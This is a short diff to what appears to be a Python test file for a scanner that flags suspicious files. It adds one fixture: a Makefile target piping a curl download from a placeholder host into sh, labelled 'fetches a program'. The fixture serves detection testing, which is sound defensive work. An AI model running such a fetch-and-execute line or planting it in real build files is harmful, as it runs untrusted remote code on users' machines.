@@ -27,6 +27,7 @@ MARKED = [
         "fetches a program",
         "high",
     ),
+    ("Makefile", b"uv:\n\tcurl -sSf https://x.invalid/a | sh\n", "fetches a program", "low"),
 ]
 PLAIN = [
     ("icon.png", b"\x89PNG\r\n" + os.urandom(4000)),
